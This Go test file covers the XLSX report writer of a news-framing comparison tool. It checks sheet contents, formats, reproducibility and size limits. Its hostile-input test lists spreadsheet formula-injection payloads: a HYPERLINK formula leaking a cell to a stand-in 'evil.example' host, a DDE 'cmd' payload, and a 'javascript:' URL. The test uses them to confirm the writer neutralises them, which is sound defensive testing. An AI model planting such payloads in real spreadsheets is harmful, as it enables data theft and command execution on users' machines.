package xlsx

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/framediff/framediff/compare"
	"github.com/framediff/framediff/internal/reporttest"
	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// systemPython is Debian's python3, which carries openpyxl; the python3 on
// PATH may be another one.
const systemPython = "/usr/bin/python3"

// sheetWant is what one section's table should read back as: its header
// and every row, over all its pages.
type sheetWant struct {
	section string
	rows    [][]any // header first
}

// wantSheets renders the tables Write plans for res into the values an
// independent reader should see: text as cleaned, rich text as its plain
// text, numbers as float64, dates as ISO text to the second.
func wantSheets(res *compare.Result, opts Options) []sheetWant {
	opts = opts.withDefaults()
	x := &xlsxWriter{res: res, opts: opts}
	var out []sheetWant
	for _, t := range x.plan() {
		header := make([]string, len(t.cols))
		for i, c := range t.cols {
			header[i] = c.header
		}
		hv := []any{}
		for _, h := range uniqueHeaders(header, opts.MaxCellChars) {
			hv = append(hv, h)
		}
		rows := [][]any{hv}
		vals := make([]any, len(t.cols))
		for i := 0; i < t.n; i++ {
			clear(vals)
			t.row(i, vals)
			r := make([]any, len(vals))
			for j, v := range vals {
				r[j] = readBack(v, opts)
			}
			rows = append(rows, r)
		}
		out = append(out, sheetWant{section: t.sheet, rows: rows})
	}
	return out
}

// readBack is what a reader sees of one cell value.
func readBack(v any, opts Options) any {
	switch v := v.(type) {
	case styled:
		return readBack(v.v, opts)
	case nil:
		return nil
	case string:
		if s := cleanText(v, opts.MaxCellChars); s != "" {
			return s
		}
		return nil
	case link:
		return readBack(v.text, opts)
	case richText:
		if s := richPlain(cleanRich(v, opts.MaxCellChars)); s != "" {
			return s
		}
		return nil
	case int:
		return float64(v)
	case float64:
		if math.IsNaN(v) || math.IsInf(v, 0) {
			return nil
		}
		return v
	case bool:
		return v
	case dateCell:
		t := v.t.UTC()
		if !v.instant {
			return v.t.Format("2006-01-02") + "T00:00:00"
		}
		return t.Format("2006-01-02T15:04:05")
	}
	panic(fmt.Sprintf("unexpected cell %T", v))
}

// dump is testdata/xlsx_dump.py's output.
type dump struct {
	Sheets []dumpSheet `json:"sheets"`
}

type dumpSheet struct {
	Name   string             `json:"name"`
	Rows   [][]any            `json:"rows"`
	Tables map[string]string  `json:"tables"`
	Freeze *string            `json:"freeze"`
	Links  [][2]string        `json:"links"`
	Row2   []dumpCellFormat   `json:"row2"`
	Widths map[string]float64 `json:"widths"`
	Types  map[string]int     `json:"types"`
	Charts int                `json:"charts"`
	// Size is the sheet's rows and columns as read in full; ReadOnlySize
	// as a streaming reader reads them, from the declared dimension.
	Size         [2]int `json:"size"`
	ReadOnlySize [2]int `json:"read_only_size"`
}

type dumpCellFormat struct {
	Format string `json:"format"`
	Type   string `json:"type"`
}

// readWithOpenpyxl writes data to a file and dumps it with openpyxl; it
// skips the test when Debian's python3-openpyxl is missing.
func readWithOpenpyxl(t *testing.T, data []byte) *dump {
	t.Helper()
	if err := exec.Command(systemPython, "-c", "import openpyxl").Run(); err != nil {
		reporttest.MissingReader(t, fmt.Sprintf("second reader unavailable: %s cannot import openpyxl (install python3-openpyxl): %v", systemPython, err))
	}
	path := filepath.Join(t.TempDir(), "report.xlsx")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(systemPython, filepath.Join("testdata", "xlsx_dump.py"), path)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("openpyxl could not read the workbook: %v\n%s", err, stderr.String())
	}
	var d dump
	if err := json.Unmarshal(out, &d); err != nil {
		t.Fatalf("decode dump: %v", err)
	}
	return &d
}

// pagesOf returns the sheets of section in order: "Hits", "Hits 2", ….
func (d *dump) pagesOf(section string) []dumpSheet {
	var pages []dumpSheet
	for p := 1; ; p++ {
		name := section
		if p > 1 {
			name += " " + strconv.Itoa(p)
		}
		found := false
		for _, s := range d.Sheets {
			if s.Name == name {
				pages = append(pages, s)
				found = true
			}
		}
		if !found {
			return pages
		}
	}
}

// sheet returns the sheet called name.
func (d *dump) sheet(t *testing.T, name string) dumpSheet {
	t.Helper()
	for _, s := range d.Sheets {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("no sheet %q", name)
	return dumpSheet{}
}

// gotTable joins a section's pages into its header and rows as read back,
// limited to the table's columns.
func gotTable(t *testing.T, d *dump, section string, cols, rows, perPage int) [][]any {
	t.Helper()
	pages := d.pagesOf(section)
	if len(pages) == 0 {
		t.Fatalf("no sheet for %s", section)
	}
	var got [][]any
	left := rows
	for p, pg := range pages {
		n := min(left, perPage)
		if len(pg.Rows) < n+1 {
			t.Fatalf("sheet %s has %d rows, want at least %d", pg.Name, len(pg.Rows), n+1)
		}
		from := 1
		if p == 0 {
			from = 0
		}
		for _, r := range pg.Rows[from : n+1] {
			r = append(r, make([]any, max(0, cols-len(r)))...)
			got = append(got, r[:cols])
		}
		left -= n
	}
	return got
}

func writeXLSX(t testing.TB, res *compare.Result, opts Options) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, res, opts); err != nil {
		t.Fatalf("Write: %v", err)
	}
	return buf.Bytes()
}

// checkReadBack reads data with openpyxl and compares every section's
// table with what Write meant to write.
func checkReadBack(t *testing.T, res *compare.Result, opts Options, data []byte) *dump {
	t.Helper()
	d := readWithOpenpyxl(t, data)
	perPage := opts.withDefaults().MaxRows - 1
	for _, w := range wantSheets(res, opts) {
		got := gotTable(t, d, w.section, len(w.rows[0]), len(w.rows)-1, perPage)
		if diff := cmp.Diff(w.rows, got); diff != "" {
			t.Errorf("sheet %s read back differs (-want +got):\n%s", w.section, diff)
		}
	}
	for _, s := range d.Sheets {
		if s.ReadOnlySize != s.Size {
			t.Errorf("sheet %s: a streaming reader sees %d rows and %d columns, a full read %d and %d", s.Name, s.ReadOnlySize[0], s.ReadOnlySize[1], s.Size[0], s.Size[1])
		}
	}
	return d
}

func sheetNames(d *dump) []string {
	var names []string
	for _, s := range d.Sheets {
		names = append(names, s.Name)
	}
	return names
}

func TestWriteXLSXSeedReadBack(t *testing.T) {
	res := seedFixture(t)
	data := writeXLSX(t, res, Options{})
	d := checkReadBack(t, res, Options{}, data)

	wantNames := []string{"Overview", "Articles", "Terms", "Hits", "Events", "Alignments", "Swaps", "Quotes", "Voice by outlet", "Voice share", "Coverage", "Distinctive"}
	if diff := cmp.Diff(wantNames, sheetNames(d)); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	for _, s := range d.Sheets {
		want := "A2"
		if s.Name == "Terms" {
			want = "D2" // axis, pole and term stay in view
		}
		if s.Freeze == nil || *s.Freeze != want {
			t.Errorf("sheet %s: frozen at %v, want %s", s.Name, s.Freeze, want)
		}
		if len(s.Tables) == 0 {
			t.Errorf("sheet %s has no table", s.Name)
		}
		if len(s.Widths) == 0 {
			t.Errorf("sheet %s sets no column widths", s.Name)
		}
	}
	for _, tc := range []struct {
		sheet  string
		tables map[string]string
		charts int
	}{
		{"Overview", map[string]string{"Overview": "A1:C33"}, 0},
		{"Hits", map[string]string{"Hits": "A1:N32"}, 0},
		// 3 + 4 × 5 outlets + Note = 24 columns; 20 lexicon terms.
		{"Terms", map[string]string{"Terms": "A1:X21", "PoleShares_1": "Z1:AB6", "PoleShares_2": "Z19:AC24",
			"PoleShares_3": "Z37:AB42", "PoleShares_4": "Z55:AB60", "PoleShares_5": "Z73:AB78",
			"PoleShares_6": "Z91:AB96", "PoleShares_7": "Z109:AA114", "PoleShares_8": "Z127:AA132"}, 8},
		{"Quotes", map[string]string{"Quotes": "A1:N6"}, 0},
		{"Voice by outlet", map[string]string{"VoiceByOutlet": "A1:D4"}, 1},
		{"Voice share", map[string]string{"VoiceShare": "A1:E5"}, 0},
	} {
		t.Run(tc.sheet, func(t *testing.T) {
			s := d.sheet(t, tc.sheet)
			if diff := cmp.Diff(tc.tables, s.Tables); diff != "" {
				t.Errorf("tables (-want +got):\n%s", diff)
			}
			if s.Charts != tc.charts {
				t.Errorf("%d charts, want %d", s.Charts, tc.charts)
			}
		})
	}

	t.Run("formats", func(t *testing.T) {
		for _, tc := range []struct {
			sheet  string
			col    int
			format string
			typ    string
		}{
			{"Articles", 6, "yyyy-mm-dd hh:mm:ss", "d"}, // 000 has a time of day
			{"Articles", 9, "#,##0", "n"},
			{"Hits", 11, "", "b"},
			{"Events", 2, "yyyy-mm-dd", "d"},
			{"Alignments", 10, "0.000", "n"},
			{"Distinctive", 3, "0.00", "n"},
			{"Terms", 4, "0.00", "n"},
		} {
			row := d.sheet(t, tc.sheet).Row2
			if tc.col >= len(row) {
				t.Errorf("%s: no column %d in row 2", tc.sheet, tc.col)
				continue
			}
			got := row[tc.col]
			if (tc.format != "" && got.Format != tc.format) || got.Type != tc.typ {
				t.Errorf("%s column %d: format %q type %q, want %q %q", tc.sheet, tc.col, got.Format, got.Type, tc.format, tc.typ)
			}
		}
		articles := d.sheet(t, "Articles")
		if got := articles.Rows[4][6]; got != "2018-09-07T00:00:00" {
			t.Errorf("The New Arab published %v, want the day 2018-09-07", got)
		}
		if got := articles.Rows[1][6]; got != "2018-09-07T18:16:34" {
			t.Errorf("CGTN published %v, want 2018-09-07T18:16:34", got)
		}
	})

	t.Run("hyperlinks", func(t *testing.T) {
		want := [][2]string{
			{"K4", "https://iranpress.com/innocent-people-in-syria-s-idlib-should-be-protected-rouhani-to-erdogan"},
			{"K6", "https://turkey.theglobepost.com/erdogan-putin-idlib-ceasefire/"},
		}
		if diff := cmp.Diff(want, d.sheet(t, "Articles").Links); diff != "" {
			t.Errorf("links (-want +got):\n%s", diff)
		}
	})

	t.Run("pole shares", func(t *testing.T) {
		// Narrator hits on the state axis, read from seed_hits.txt: CGTN
		// Damascus 1; Iran Press government 1; The New Arab regime 2; The
		// Globe Post regime 2 and Damascus 1; Sahar News none.
		terms := d.sheet(t, "Terms")
		want := [][]any{
			{"Outlet · state", "regime", "government"},
			{"CGTN", 0.0, 1.0},
			{"Iran Press", 0.0, 1.0},
			{"Sahar News", nil, nil}, // no hits on the axis: blank
			{"The Globe Post", 2.0 / 3, 1.0 / 3},
			{"The New Arab", 1.0, 0.0},
		}
		var got [][]any
		for _, r := range terms.Rows[:6] {
			got = append(got, r[25:28])
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("state pole shares (-want +got):\n%s", diff)
		}
	})

	t.Run("terms counts", func(t *testing.T) {
		// Narrator "regime": The New Arab 2, The Globe Post 2, others 0.
		terms := d.sheet(t, "Terms")
		header := terms.Rows[0]
		row := terms.Rows[1]
		if row[2] != "regime" {
			t.Fatalf("first term %v, want regime", row[2])
		}
		want := map[string]float64{"CGTN": 0, "Iran Press": 0, "Sahar News": 0, "The Globe Post": 2, "The New Arab": 2}
		for i, h := range header {
			name, ok := strings.CutSuffix(fmt.Sprint(h), " narrator")
			if !ok {
				continue
			}
			if row[i] != want[name] {
				t.Errorf("%s narrator regime = %v, want %v", name, row[i], want[name])
			}
		}
	})

	t.Run("quote across outlets", func(t *testing.T) {
		q := d.sheet(t, "Quotes")
		want := []any{"CGTN", "Iran Press", "Sahar News", "The Globe Post", "The New Arab"}
		if diff := cmp.Diff(want, q.Rows[0][9:14]); diff != "" {
			t.Errorf("outlet columns (-want +got):\n%s", diff)
		}
		want = []any{"verbatim", nil, nil, "verbatim", "absent"}
		if diff := cmp.Diff(want, q.Rows[1][9:14]); diff != "" {
			t.Errorf("Erdogan's ceasefire quote across outlets (-want +got):\n%s", diff)
		}
	})

	t.Run("kwic", func(t *testing.T) {
		hits := d.sheet(t, "Hits")
		for _, r := range hits.Rows[1:] {
			if r[1] == "003" && r[7] == "regime" {
				left, right := fmt.Sprint(r[6]), fmt.Sprint(r[8])
				if strings.HasSuffix(left, "back the ") && strings.HasPrefix(right, " of Bashar al-Assad") {
					return
				}
			}
		}
		t.Errorf("no KWIC row for The New Arab's \"back the regime of Bashar al-Assad\"")
	})
}

// packageParts unzips a workbook.
func unzipParts(t *testing.T, data []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("workbook is not a zip: %v", err)
	}
	parts := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("read %s: %v", f.Name, err)
		}
		parts[f.Name] = string(b)
	}
	return parts
}

func TestWriteXLSXRichText(t *testing.T) {
	parts := unzipParts(t, writeXLSX(t, seedFixture(t), Options{}))
	sheet := func(n int) string { return parts["xl/worksheets/sheet"+strconv.Itoa(n)+".xml"] }
	terms, hits, aligns := sheet(3), sheet(4), sheet(6)
	for _, tc := range []struct {
		name, xml, want string
	}{
		{"colour scale", terms, `<conditionalFormatting sqref="E2:E21 G2:G21 I2:I21 K2:K21 M2:M21 O2:O21 Q2:Q21 S2:S21 U2:U21 W2:W21"><cfRule type="colorScale"`},
		{"pole-share chart", parts["xl/charts/chart1.xml"], `<barDir val="bar"></barDir><grouping val="clustered"></grouping><varyColors val="0"></varyColors>`},
		{"bold match", hits, `<b val="1"></b><color></color></rPr><t>regime</t></r>`},
		{"deleted words", aligns, `<strike val="1"></strike><color rgb="FFC00000"></color></rPr><t>air raids</t></r>`},
		{"inserted words", aligns, `<color rgb="FF00803C"></color><u val="single"></u></rPr><t>airplanes</t></r>`},
		{"equal words", aligns, `<r><t xml:space="preserve"> pounded rebel positions</t></r>`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(tc.xml, tc.want) {
				i := strings.Index(tc.xml, "<is>")
				t.Errorf("sheet lacks %s; first rich cell: %.400s", tc.want, tc.xml[max(i, 0):])
			}
		})
	}
}

func TestWriteXLSXGolden(t *testing.T) {
	var b strings.Builder
	for _, w := range wantSheets(seedFixture(t), Options{}) {
		fmt.Fprintf(&b, "== %s ==\n", w.section)
		for _, r := range w.rows {
			cells := make([]string, len(r))
			for i, v := range r {
				switch v := v.(type) {
				case nil:
				case string:
					cells[i] = strconv.Quote(v)
				default:
					cells[i] = fmt.Sprint(v)
				}
			}
			b.WriteString(strings.Join(cells, " | ") + "\n")
		}
	}
	path := filepath.Join("testdata", "seed.golden")
	if *update {
		if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run TestWriteXLSXGolden -update)", err)
	}
	if diff := cmp.Diff(string(want), b.String()); diff != "" {
		t.Errorf("workbook contents differ from %s (-want +got):\n%s", path, diff)
	}
}

// TestXLSXHelperProcess writes the seed workbook to $FRAMEDIFF_XLSX_OUT when
// run by TestWriteXLSXReproducible in a fresh process.
func TestXLSXHelperProcess(t *testing.T) {
	out := os.Getenv("FRAMEDIFF_XLSX_OUT")
	if out == "" {
		t.Skip("helper process for TestWriteXLSXReproducible")
	}
	if err := os.WriteFile(out, writeXLSX(t, seedFixture(t), Options{}), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestWriteXLSXReproducible(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	var files [][]byte
	for i, procs := range []string{"1", "2", "4"} {
		out := filepath.Join(dir, "run"+strconv.Itoa(i)+".xlsx")
		cmd := exec.Command(exe, "-test.run=^TestXLSXHelperProcess$", "-test.count=1")
		cmd.Env = append(os.Environ(), "FRAMEDIFF_XLSX_OUT="+out, "GOMAXPROCS="+procs)
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("helper process: %v\n%s", err, b)
		}
		data, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, data)
	}
	files = append(files, writeXLSX(t, seedFixture(t), Options{}))
	for i := 1; i < len(files); i++ {
		if !bytes.Equal(files[0], files[i]) {
			t.Errorf("run %d wrote %d bytes differing from run 0's %d bytes", i, len(files[i]), len(files[0]))
		}
	}

	zr, err := zip.NewReader(bytes.NewReader(files[0]), int64(len(files[0])))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if want := "2020-02-29 00:00:00"; f.Modified.UTC().Format("2006-01-02 15:04:05") != want {
			t.Errorf("%s modified %v, want the latest publication date %s", f.Name, f.Modified, want)
		}
	}
	if names[0] != contentTypesPart {
		t.Errorf("first part %s, want %s", names[0], contentTypesPart)
	}
	for i := 2; i < len(names); i++ {
		if names[i-1] > names[i] {
			t.Errorf("parts out of order: %s before %s", names[i-1], names[i])
		}
	}
	parts := unzipParts(t, files[0])
	if core := parts["docProps/core.xml"]; !strings.Contains(core, "2020-02-29T00:00:00Z") {
		t.Errorf("docProps/core.xml lacks the input-derived date: %s", core)
	}
	ct := parts[contentTypesPart]
	overrides := regexp.MustCompile(`PartName="([^"]+)"`).FindAllStringSubmatch(ct, -1)
	for i := 1; i < len(overrides); i++ {
		if overrides[i-1][1] > overrides[i][1] {
			t.Errorf("content types out of order: %s before %s", overrides[i-1][1], overrides[i][1])
		}
	}
}

// hostileTexts look like formulas or carry characters XML cannot hold.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	"+1",
	"@SUM(1)",
	"-2+3",
	"\t=1",
	"\r=1+1",
	"=cmd|' /C calc'!A0",
	"_x0041_ stays five characters",
	"nul\x00 and bell\x07 and bad \xff utf-8",
	"  leading and trailing space  ",
	"=1\n=2",
}

func hostileResult(t testing.TB) *compare.Result {
	res := seedFixture(t)
	for i := range res.Articles {
		a := &res.Articles[i]
		h := hostileTexts[i%len(hostileTexts)]
		a.Title = h
		a.Outlet = hostileTexts[(i+1)%len(hostileTexts)]
		a.Warnings = []string{hostileTexts[(i+2)%len(hostileTexts)]}
		a.URL = `javascript:alert(1)`
	}
	res.Articles[0].Text = "=SUM(A1:A9) -2+3 @SUM(1) " + res.Articles[0].Text
	res.Warnings = append(res.Warnings, hostileTexts...)
	res.Lexicon.Name = "=HYPERLINK(\"x\")"
	for i := range res.Framing.Hits {
		h := &res.Framing.Hits[i]
		h.Speaker = hostileTexts[i%len(hostileTexts)]
		h.Term = hostileTexts[(i+3)%len(hostileTexts)]
	}
	for i := range res.Framing.Counts {
		res.Framing.Counts[i].Outlet = hostileTexts[i%len(hostileTexts)]
	}
	for i := range res.Quotes {
		res.Quotes[i].Text = hostileTexts[i%len(hostileTexts)]
		res.Quotes[i].Speaker = hostileTexts[(i+4)%len(hostileTexts)]
	}
	res.VoiceShare = voiceShares(res.Quotes)
	for i := range res.Alignments {
		res.Alignments[i].A.Text = hostileTexts[i]
		res.Alignments[i].Diff = append(res.Alignments[i].Diff, compare.DiffOp{Op: "insert", Text: hostileTexts[i+5]})
	}
	for i := range res.Coverage {
		res.Coverage[i].Text = hostileTexts[i]
		res.Coverage[i].Outlets = append(res.Coverage[i].Outlets, hostileTexts[i+1])
	}
	for i := range res.Distinctive {
		res.Distinctive[i].Term = hostileTexts[i]
		res.Distinctive[i].Z = []float64{math.NaN(), math.Inf(1), 1, -1}[i]
	}
	return res
}

// formulaElement matches a cell formula element, with or without a prefix.
var formulaElement = regexp.MustCompile(`<([A-Za-z0-9]+:)?f[\s>/]`)

// chartRef is the only formula the tool writes: a chart's reference to its
// own cells.
var chartRef = regexp.MustCompile(`^'(Terms|Voice by outlet)'!\$[A-Z]+\$[0-9]+(:\$[A-Z]+\$[0-9]+)?$`)

func TestWriteXLSXHostile(t *testing.T) {
	res := hostileResult(t)
	data := writeXLSX(t, res, Options{})
	refs := 0
	for name, xml := range writeParts(t, data) {
		if strings.HasPrefix(name, "xl/charts/") {
			// Chart parts use the chart namespace as default: <f> here is a
			// series reference the tool wrote.
			for _, m := range regexp.MustCompile(`<f>([^<]*)</f>`).FindAllStringSubmatch(xml, -1) {
				refs++
				ref := strings.ReplaceAll(m[1], "&#39;", "'")
				if !chartRef.MatchString(ref) {
					t.Errorf("%s: chart formula %q is not a reference to the tool's own cells", name, ref)
				}
			}
			continue
		}
		if loc := formulaElement.FindStringIndex(xml); loc != nil {
			t.Errorf("%s has a formula element: %.120s", name, xml[loc[0]:])
		}
	}
	if refs == 0 {
		t.Errorf("found no chart references to check")
	}
	d := checkReadBack(t, res, Options{}, data)
	for _, s := range d.Sheets {
		if n := s.Types["f"]; n > 0 {
			t.Errorf("sheet %s: openpyxl sees %d formula cells", s.Name, n)
		}
		if len(s.Links) > 0 && s.Name == "Articles" {
			t.Errorf("javascript: URLs became links: %v", s.Links)
		}
	}
	ov := d.sheet(t, "Overview")
	found := false
	for _, r := range ov.Rows {
		if r[1] == "Name" && r[2] == res.Lexicon.Name {
			found = true
		}
	}
	if !found {
		t.Errorf("Overview lacks the lexicon name %q as text", res.Lexicon.Name)
	}
}

func writeParts(t *testing.T, data []byte) map[string]string { return unzipParts(t, data) }

func TestWriteXLSXLimits(t *testing.T) {
	res := seedFixture(t)
	long := strings.Repeat("Idlib ", 20)
	res.Articles[2].Title = long
	res.Quotes[0].Text = long
	res.Alignments[1].Diff = append(res.Alignments[1].Diff, compare.DiffOp{Op: "insert", Text: long})
	opts := Options{MaxRows: 5, MaxCellChars: 40}
	data := writeXLSX(t, res, opts)
	d := checkReadBack(t, res, opts, data)

	hitPages := d.pagesOf("Hits")
	if want := (len(res.Framing.Hits) + 3) / 4; len(hitPages) != want {
		t.Errorf("hits on %d sheets, want %d", len(hitPages), want)
	}
	for _, s := range d.Sheets {
		if len(s.Rows) > 5 {
			t.Errorf("sheet %s has %d rows, limit 5", s.Name, len(s.Rows))
		}
		for _, r := range s.Rows {
			for _, v := range r {
				if str, ok := v.(string); ok && utf16Len(str) > 40 {
					t.Errorf("sheet %s: cell of %d characters, limit 40: %q", s.Name, utf16Len(str), str)
				}
			}
		}
	}
	articles := d.sheet(t, "Articles")
	if got := fmt.Sprint(articles.Rows[3][5]); !strings.HasSuffix(got, truncMarker) {
		t.Errorf("long title %q lacks the truncation marker", got)
	}
	if _, ok := d.pagesOf("Overview")[0].Tables["Overview"]; !ok {
		t.Errorf("Overview page lost its table")
	}
}

func TestWriteXLSXSections(t *testing.T) {
	full := seedFixture(t)
	for _, tc := range []struct {
		name string
		edit func(*compare.Result)
		want []string
	}{
		{"articles only", func(r *compare.Result) {
			*r = compare.Result{Tool: r.Tool, Lexicon: r.Lexicon, Articles: r.Articles}
		}, []string{"Overview", "Articles"}},
		{"framing built", func(r *compare.Result) {
			*r = compare.Result{Tool: r.Tool, Lexicon: r.Lexicon, Lex: r.Lex, Articles: r.Articles, Framing: r.Framing}
		}, []string{"Overview", "Articles", "Terms", "Hits"}},
		{"empty", func(r *compare.Result) { *r = compare.Result{} }, []string{"Overview"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := *full
			tc.edit(&res)
			f, err := excelize.OpenReader(bytes.NewReader(writeXLSX(t, &res, Options{})))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if diff := cmp.Diff(tc.want, f.GetSheetList()); diff != "" {
				t.Errorf("sheets (-want +got):\n%s", diff)
			}
		})
	}
}

func TestWriteXLSXNilResult(t *testing.T) {
	if err := Write(io.Discard, nil, Options{}); err == nil {
		t.Error("Write(nil) succeeded")
	}
}

// failWriter fails after n bytes.
type failWriter struct{ n int }

func (w *failWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		return w.n, fmt.Errorf("disk full")
	}
	w.n -= len(p)
	return len(p), nil
}

func TestWriteXLSXWriterFails(t *testing.T) {
	err := Write(&failWriter{n: 100}, seedFixture(t), Options{})
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("err = %v, want the writer's error", err)
	}
}

// TestWriteXLSXLibreOffice converts the seed workbook to CSV with
// LibreOffice, when it is installed, and checks the Overview it reads.
func TestWriteXLSXLibreOffice(t *testing.T) {
	var office string
	for _, name := range []string{"libreoffice", "soffice"} {
		if p, err := exec.LookPath(name); err == nil {
			office = p
			break
		}
	}
	if office == "" {
		t.Skip("LibreOffice is not installed")
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "report.xlsx")
	if err := os.WriteFile(in, writeXLSX(t, seedFixture(t), Options{}), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(office, "--headless", "--convert-to", "csv", "--outdir", dir, in)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("LibreOffice could not convert the workbook: %v\n%s", err, out)
	}
	csv, err := os.ReadFile(filepath.Join(dir, "report.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Section,Item,Value", "Corpus,Articles,5", "Lexicon,Name,fixture"} {
		if !strings.Contains(string(csv), want) {
			t.Errorf("LibreOffice's Overview lacks %q:\n%s", want, csv)
		}
	}
}

func TestWriteXLSXExcelCellLimit(t *testing.T) {
	res := seedFixture(t)
	res.Articles[0].Title = strings.Repeat("Idlib 😀 ", 6000) // 54,000 UTF-16 units
	d := checkReadBack(t, res, Options{}, writeXLSX(t, res, Options{}))
	title, _ := d.sheet(t, "Articles").Rows[1][5].(string)
	if n := utf16Len(title); n > excelMaxCellChars || n < excelMaxCellChars-1 || !strings.HasSuffix(title, truncMarker) {
		t.Errorf("title of %d units ending %q, want at most %d ending with the marker", n, title[max(0, len(title)-20):], excelMaxCellChars)
	}
}
